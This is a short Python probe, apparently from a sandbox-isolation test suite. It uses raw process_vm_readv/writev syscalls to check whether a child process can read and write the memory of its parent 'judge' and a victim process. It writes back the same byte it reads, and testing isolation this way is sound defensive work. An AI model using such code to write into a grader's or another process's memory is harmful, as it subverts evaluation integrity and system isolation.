"""writes a number into the judge's memory by process_vm_writev"""

import ctypes
import errno
import os
import struct


# Made at import: memory of this child only, at an address that the judge may have mapped, too.
PLACE = ctypes.create_string_buffer(16)


def attack():
    local = struct.pack("QQ", ctypes.addressof(PLACE), 1)
    remote = struct.pack("QQ", ctypes.addressof(PLACE), 1)
    for pid in (os.getppid(), TARGETS["victim"]):
        # First what is there is read, and the same is written back.
        try:
            syscall(310, pid, local, 1, remote, 1, 0)
            size = syscall(311, pid, local, 1, remote, 1, 0)
        except OSError as error:
            # The right is asked for before the address is looked at.
            if error.errno == errno.EFAULT:
                reached(f"only the address in {pid} was wrong")
            continue
        if size == 1:
            reached(f"the memory of {pid} can be written")
